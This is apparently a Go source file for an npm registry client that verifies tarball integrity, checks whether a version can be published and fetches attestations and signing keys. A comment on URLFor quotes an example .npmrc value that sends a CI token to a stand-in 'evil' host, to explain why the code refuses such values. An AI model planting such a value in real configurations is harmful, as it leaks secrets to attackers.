// Package registry is a small client of the npm registry: a version's metadata and its tarball, checked against
// the registry's own dist.integrity. It also finds the registry the user configured for npm.
package registry

import (
	"bufio"
	"cmp"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"github.com/waxseal/waxseal/internal/retry"
)

// DefaultURL is the public npm registry.
const DefaultURL = "https://registry.npmjs.org/"

// Limits on what is read from the registry.
const (
	// maxMetadataBytes bounds a version's document (one package.json, with its readme in older packages) and a
	// version's attestations (a bundle or two).
	maxMetadataBytes = 8 << 20
	// maxPackageBytes bounds a package's document. The abbreviated one is a few MB even for packages with thousands
	// of versions; the full one, which a registry without the abbreviated form sends instead, runs to tens of MB
	// (next's is 21 MB).
	maxPackageBytes = 64 << 20
	// MaxTarballBytes bounds a downloaded tarball; the npm registry refuses packages far smaller.
	MaxTarballBytes = 1 << 30
)

// ErrIntegrity: the tarball the registry served does not match the registry's dist.integrity.
var ErrIntegrity = errors.New("tarball does not match the registry's dist.integrity")

// HTTPError is a non-2xx answer from the registry.
type HTTPError struct {
	URL    string
	Status int
}

func (e *HTTPError) Error() string {
	if e.Status == http.StatusNotFound {
		return fmt.Sprintf("%s: not found (404): check the package name and version, and the registry setting", Redact(e.URL))
	}
	return fmt.Sprintf("%s: HTTP %d from the npm registry", Redact(e.URL), e.Status)
}

// Client talks to one npm registry.
type Client struct {
	base     *url.URL
	metadata *http.Client // version documents and attestations, read whole
	packages *http.Client // package documents, read whole
	download *http.Client // tarballs, streamed
}

// The registry as the retry policy sees it. Final 4xx answers (a 404 for a version that does not exist) come back
// to the client, which explains them.
var (
	metadataService = retry.Service{Name: "the npm registry", Valid: retry.JSON, Pass: retry.ClientError, MaxBody: maxMetadataBytes,
		Hint: "check https://status.npmjs.org (or your registry's status)"}
	packageService = retry.Service{Name: "the npm registry", Valid: retry.JSON, Pass: retry.ClientError, MaxBody: maxPackageBytes,
		Hint: "check https://status.npmjs.org (or your registry's status)"}
	downloadService = retry.Service{Name: "the npm registry", Stream: true, Pass: retry.ClientError,
		Hint: "check https://status.npmjs.org (or your registry's status)"}
)

// New returns a client for the registry at baseURL. Every request goes over transport (nil means
// http.DefaultTransport) under the retry policy.
func New(transport http.RoundTripper, policy retry.Policy, baseURL string) (*Client, error) {
	u, err := url.Parse(baseURL)
	if err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" {
		return nil, fmt.Errorf("creating npm registry client: registry %q is not an http(s) URL: fix the registry setting in .npmrc or npm_config_registry", Redact(baseURL))
	}
	if !strings.HasSuffix(u.Path, "/") {
		u.Path += "/"
	}
	return &Client{base: u, metadata: policy.Client(transport, metadataService), packages: policy.Client(transport, packageService),
		download: policy.Client(transport, downloadService)}, nil
}

// Version is a package version's registry metadata, as much as verification needs.
type Version struct {
	Name    string `json:"name"`
	Version string `json:"version"`
	Dist    struct {
		Tarball   string `json:"tarball"`
		Integrity string `json:"integrity"`
	} `json:"dist"`
}

// Version fetches name@version's metadata (GET /<name>/<version>, the scope's slash escaped).
func (c *Client) Version(ctx context.Context, name, version string) (*Version, error) {
	if name == "" || version == "" || strings.Contains(version, "/") {
		return nil, fmt.Errorf("fetching npm metadata: %q@%q is not NAME@VERSION", name, version)
	}
	// The registry wants a scoped name's slash escaped: /@scope%2Fname/1.2.3.
	body, err := c.get(ctx, c.metadata, c.base.String()+url.PathEscape(name)+"/"+url.PathEscape(version), maxMetadataBytes)
	if err != nil {
		return nil, fmt.Errorf("fetching npm metadata for %s@%s: %w", name, version, err)
	}
	var v Version
	if err := json.Unmarshal(body, &v); err != nil {
		return nil, fmt.Errorf("decoding npm metadata for %s@%s: %w", name, version, err)
	}
	if v.Name != name || v.Version != version {
		return nil, fmt.Errorf("fetching npm metadata for %s@%s: the registry answered for %q: check the registry setting (a registry that serves one package under another's name is misconfigured or hostile)",
			name, version, v.Name+"@"+v.Version)
	}
	if v.Dist.Tarball == "" || v.Dist.Integrity == "" {
		return nil, fmt.Errorf("fetching npm metadata for %s@%s: no dist.tarball or dist.integrity", name, version)
	}
	return &v, nil
}

// Tarball downloads v's tarball and checks it against dist.integrity (sha512); it returns the bytes.
func (c *Client) Tarball(ctx context.Context, v *Version) ([]byte, error) {
	want, err := parseIntegrity(v.Dist.Integrity)
	if err != nil {
		return nil, fmt.Errorf("checking %s@%s: %w", v.Name, v.Version, err)
	}
	data, err := c.get(ctx, c.download, v.Dist.Tarball, MaxTarballBytes)
	if err != nil {
		return nil, fmt.Errorf("downloading %s@%s: %w", v.Name, v.Version, err)
	}
	if got := sha512.Sum512(data); got != want {
		return nil, fmt.Errorf("downloading %s@%s: %w: got sha512-%s, registry says %s", v.Name, v.Version, ErrIntegrity, base64.StdEncoding.EncodeToString(got[:]), v.Dist.Integrity)
	}
	return data, nil
}

// parseIntegrity picks the sha512 digest out of a Subresource Integrity string ("sha512-<base64> ...").
func parseIntegrity(sri string) ([64]byte, error) {
	var out [64]byte
	for _, f := range strings.Fields(sri) {
		b64, ok := strings.CutPrefix(f, "sha512-")
		if !ok {
			continue
		}
		if i := strings.IndexByte(b64, '?'); i >= 0 {
			b64 = b64[:i]
		}
		d, err := base64.StdEncoding.Strict().DecodeString(b64)
		if err != nil || len(d) != len(out) {
			return out, fmt.Errorf("dist.integrity %q has a malformed sha512", sri)
		}
		copy(out[:], d)
		return out, nil
	}
	return out, fmt.Errorf("dist.integrity %q has no sha512: the package predates sha512 integrity and cannot carry npm provenance", sri)
}

func (c *Client) get(ctx context.Context, hc *http.Client, rawURL string, limit int64) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, rawURL, nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("Accept", "application/json")
	req.Header.Set("User-Agent", "waxseal")
	resp, err := hc.Do(req)
	if err != nil {
		return nil, retry.Cause(err)
	}
	defer func() { _ = resp.Body.Close() }() // read-only
	if resp.StatusCode/100 != 2 {
		// Drained only so the connection can be reused; the status is the error to report.
		_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<16))
		return nil, &HTTPError{URL: rawURL, Status: resp.StatusCode}
	}
	data, err := io.ReadAll(io.LimitReader(resp.Body, limit+1))
	if err != nil {
		return nil, err
	}
	if int64(len(data)) > limit {
		return nil, fmt.Errorf("%s: larger than %d bytes", Redact(rawURL), limit)
	}
	return data, nil
}

// URLFor returns the registry npm would use for the package name: the npm_config_registry environment variable
// (or a scope's npm_config_@scope:registry), else registry= (or @scope:registry=) in .npmrc in dir, then in
// $HOME, else DefaultURL. As in npm, the project's .npmrc wins over the user's.
//
// Unlike npm, an .npmrc value is never expanded: npm replaces ${VAR} with the environment variable, so an .npmrc
// from a checked-out repository could send a CI secret to a host of its choosing (registry=https://evil/${TOKEN}).
// Such a value is refused with the fix (pass --registry).
func URLFor(name, dir string, getenv func(string) string) (string, error) {
	scope := ""
	if strings.HasPrefix(name, "@") {
		scope, _, _ = strings.Cut(name, "/")
	}
	keys := []string{"registry"}
	if scope != "" {
		keys = []string{scope + ":registry", "registry"}
	}
	for _, k := range keys {
		for _, env := range []string{"npm_config_" + k, "NPM_CONFIG_" + strings.ToUpper(k)} {
			if v := getenv(env); v != "" {
				return v, nil
			}
		}
		for _, path := range npmrcFiles(dir, getenv) {
			v := npmrcValue(path, k)
			if strings.Contains(v, "${") {
				return "", fmt.Errorf("%s sets %s to a URL with an environment variable in it: waxseal does not expand variables into registry URLs, "+
					"so a repository's .npmrc cannot send a secret to a server of its choosing; pass --registry URL", path, k)
			}
			if v != "" {
				return v, nil
			}
		}
	}
	return DefaultURL, nil
}

// npmrcFiles are the .npmrc files npm reads, most specific first: the project's, then the user's
// (npm_config_userconfig, which actions/setup-node sets, else $HOME/.npmrc).
func npmrcFiles(dir string, getenv func(string) string) []string {
	var out []string
	if dir != "" {
		out = append(out, filepath.Join(dir, ".npmrc"))
	}
	if u := cmp.Or(getenv("npm_config_userconfig"), getenv("NPM_CONFIG_USERCONFIG")); u != "" {
		return append(out, u)
	}
	if h := getenv("HOME"); h != "" {
		out = append(out, filepath.Join(h, ".npmrc"))
	}
	return out
}

// npmrcValue reads key=value from an .npmrc (ini syntax, ; and # comments), unexpanded.
func npmrcValue(path, key string) string {
	f, err := os.Open(path)
	if err != nil {
		return ""
	}
	defer func() { _ = f.Close() }() // read-only
	sc := bufio.NewScanner(io.LimitReader(f, 1<<20))
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || line[0] == ';' || line[0] == '#' {
			continue
		}
		k, v, ok := strings.Cut(line, "=")
		if !ok || strings.TrimSpace(k) != key {
			continue
		}
		return strings.Trim(strings.TrimSpace(v), `"'`)
	}
	return ""
}

// Redact returns rawURL without user information or query, for messages: either may hold a credential.
func Redact(rawURL string) string {
	u, err := url.Parse(rawURL)
	if err != nil {
		return "(an unparseable URL)"
	}
	c := url.URL{Scheme: u.Scheme, Host: u.Host, Path: u.Path, RawPath: u.RawPath}
	return c.String()
}

// Availability is what the registry says of a name@version about to be published.
type Availability int

// The answers of [Client.Preflight].
const (
	// NewVersion: the package exists and has no such version: publishing it is possible.
	NewVersion Availability = iota
	// VersionExists: the version is already published; npm refuses to publish over it.
	VersionExists
	// VersionUnpublished: the version was published and unpublished; npm never allows a version number again.
	VersionUnpublished
	// NewPackage: the registry has no package of that name. A first publish creates it, but trusted publishing
	// (OIDC) cannot: a trusted publisher is configured on an existing package.
	NewPackage
)

// Preflight asks the registry whether name@version can be published, reading no more than it needs:
//
//  1. GET /<name>/<version>, the version's own document (a few KB): 200 means it is published.
//  2. Else GET /<name> abbreviated (Accept: application/vnd.npm.install-v1+json, as npm publish's own check of
//     "You cannot publish over the previously published versions" asks for it): its versions list the published
//     versions, without the readmes and per-version details that make a full document tens of MB.
//  3. When that is 404, the full document, as pacote does (a registry may have no abbreviated form). A 404 for a
//     package whose versions were all unpublished carries a small document whose time record keeps every version
//     number it ever had, which npm never allows again.
//
// An abbreviated document has no time record, so a version unpublished from a package that still has others comes
// back as NewVersion: telling it apart would take the full document every time, and npm publish itself refuses it
// (403) without harm beyond a signature for a version that never ships.
func (c *Client) Preflight(ctx context.Context, name, version string) (Availability, error) {
	base := c.base.String() + url.PathEscape(name)
	_, err := c.get(ctx, c.metadata, base+"/"+url.PathEscape(version), maxMetadataBytes)
	var he *HTTPError
	switch {
	case err == nil:
		return VersionExists, nil
	case !errors.As(err, &he) || he.Status != http.StatusNotFound:
		return 0, fmt.Errorf("asking the registry about %s@%s: %w", name, version, err)
	}
	doc, found, err := c.packageDoc(ctx, base, abbreviatedAccept)
	if err == nil && !found && doc.Time == nil {
		doc, found, err = c.packageDoc(ctx, base, "application/json")
	}
	if err != nil {
		return 0, fmt.Errorf("asking the registry about %s: %w", name, err)
	}
	return doc.availability(found, version), nil
}

// abbreviatedAccept is what npm sends for a package document (pacote's corgiDoc): the abbreviated form, else the
// full one.
const abbreviatedAccept = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"

// packageDoc is as much of a package document as Preflight reads. The values of versions are skipped, not kept.
type packageDoc struct {
	Versions map[string]struct{} `json:"versions"`
	// Time is the full document's time record: created, modified, every version number the package ever had, and,
	// for a package whose versions were all unpublished, unpublished.versions.
	Time map[string]json.RawMessage `json:"time"`
}

// packageDoc fetches GET base with accept. found is false for a 404, whose body (an unpublished package's record)
// is read too.
func (c *Client) packageDoc(ctx context.Context, base, accept string) (doc packageDoc, found bool, err error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, base, nil)
	if err != nil {
		return doc, false, err
	}
	req.Header.Set("Accept", accept)
	req.Header.Set("User-Agent", "waxseal")
	resp, err := c.packages.Do(req)
	if err != nil {
		return doc, false, retry.Cause(err)
	}
	defer func() { _ = resp.Body.Close() }() // read-only
	switch resp.StatusCode {
	case http.StatusOK:
		if err := json.NewDecoder(io.LimitReader(resp.Body, maxPackageBytes)).Decode(&doc); err != nil {
			return doc, true, fmt.Errorf("%s answered something other than a package document (%v): check the registry setting", Redact(base), err)
		}
		return doc, true, nil
	case http.StatusNotFound:
		_ = json.NewDecoder(io.LimitReader(resp.Body, maxPackageBytes)).Decode(&doc) // a 404 body may be anything
		return doc, false, nil
	}
	return doc, false, &HTTPError{URL: base, Status: resp.StatusCode}
}

// availability reads version's fate from a package document: found (200) or not (404).
func (d packageDoc) availability(found bool, version string) Availability {
	if _, ok := d.Versions[version]; found && ok {
		return VersionExists // a registry whose version endpoint lags its package document
	}
	switch version {
	case "created", "modified", "unpublished": // the time record's own keys, never versions
	default:
		if _, ok := d.Time[version]; ok {
			return VersionUnpublished // a full document keeps the time of every version it ever had
		}
	}
	if found {
		return NewVersion
	}
	var gone struct {
		Versions []string `json:"versions"`
	}
	if json.Unmarshal(d.Time["unpublished"], &gone) == nil && slices.Contains(gone.Versions, version) {
		return VersionUnpublished
	}
	return NewPackage
}

// Attestation is one entry of the registry's attestations for a version.
type Attestation struct {
	PredicateType string          `json:"predicateType"`
	Bundle        json.RawMessage `json:"bundle"`
}

// Attestations fetches what the registry keeps for name@version (GET /-/npm/v1/attestations/<name>@<version>):
// the provenance bundle it was given and, on registry.npmjs.org, its own publish attestation.
func (c *Client) Attestations(ctx context.Context, name, version string) ([]Attestation, error) {
	u := c.base.String() + "-/npm/v1/attestations/" + url.PathEscape(name) + "@" + url.PathEscape(version)
	body, err := c.get(ctx, c.metadata, u, maxMetadataBytes)
	if err != nil {
		return nil, fmt.Errorf("fetching the registry's attestations for %s@%s: %w", name, version, err)
	}
	var doc struct {
		Attestations []Attestation `json:"attestations"`
	}
	if err := json.Unmarshal(body, &doc); err != nil {
		return nil, fmt.Errorf("decoding the registry's attestations for %s@%s: %w", name, version, err)
	}
	return doc.Attestations, nil
}

// Key is one of the registry's signing keys (GET /-/npm/v1/keys), which sign its publish attestations and the
// signatures `npm audit signatures` checks.
type Key struct {
	// KeyID names the key as a bundle's publicKey hint does ("SHA256:<base64>").
	KeyID string `json:"keyid"`
	// Key is the public key, DER SubjectPublicKeyInfo in base64.
	Key string `json:"key"`
	// Expires is when the registry stopped signing with the key; nil while it still does.
	Expires *time.Time `json:"expires"`
}

// Keys fetches the registry's signing keys.
func (c *Client) Keys(ctx context.Context) ([]Key, error) {
	body, err := c.get(ctx, c.metadata, c.base.String()+"-/npm/v1/keys", maxMetadataBytes)
	if err != nil {
		return nil, fmt.Errorf("fetching the registry's signing keys: %w", err)
	}
	var doc struct {
		Keys []Key `json:"keys"`
	}
	if err := json.Unmarshal(body, &doc); err != nil {
		return nil, fmt.Errorf("decoding the registry's signing keys: %w", err)
	}
	return doc.Keys, nil
}
